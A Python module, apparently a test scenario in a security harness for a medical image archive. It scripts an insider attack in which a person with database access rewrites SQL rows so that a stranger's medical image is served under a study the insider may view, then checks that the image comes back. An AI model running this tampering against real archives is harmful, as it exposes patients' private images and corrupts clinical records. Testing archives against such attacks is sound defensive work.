"""The insider with the database key files a stranger's image under a study that they may see.

Steps: `arm` fetches the permitted study, `edit` moves the rows while the archive is down, `use` fetches it again.
`study` is the permitted one, `other` the stranger's.
"""

from __future__ import annotations

from .database import opened, table_with, tables
from .kit import Brief, NotArmed, Result, enter, fetch_study, run


def attack(brief: Brief) -> Result:
    """`edit` succeeds when a row was moved, `use` when the stranger's image came out of the permitted study."""
    if brief["step"] == "edit":
        return _edit(brief)
    answer = fetch_study(brief, enter(brief, brief["person"]))
    if brief["step"] == "arm" and b"DICM" not in answer.body:
        raise NotArmed(f"the permitted study answered HTTP {answer.status}")
    stranger = brief["other"]["instance_uid"].encode() in answer.body
    return Result(
        stranger, f"HTTP {answer.status}; the stranger's image {'came' if stranger else 'did not come'}"
    )


def _edit(brief: Brief) -> Result:
    mine, other = brief["study"]["instance_uid"], brief["other"]["instance_uid"]
    with opened(brief) as connection:
        table = table_with(connection, "uid", "study_pk")
        for name in tables(connection):
            if name != table and "sop_class_uid" in tables(connection)[name]:
                table = name
        moved = [column for column in ("study_pk", "series_pk") if column in tables(connection)[table]]
        changed = 0
        for column in moved:
            value = f'SELECT "{column}" FROM "{table}" WHERE uid = ?'
            statement = f'UPDATE "{table}" SET "{column}" = ({value}) WHERE uid = ?'
            changed = connection.execute(statement, (mine, other)).rowcount
    return Result(changed == 1, f"{changed} row of {table} moved to the permitted study ({', '.join(moved)})")


if __name__ == "__main__":
    run(attack)
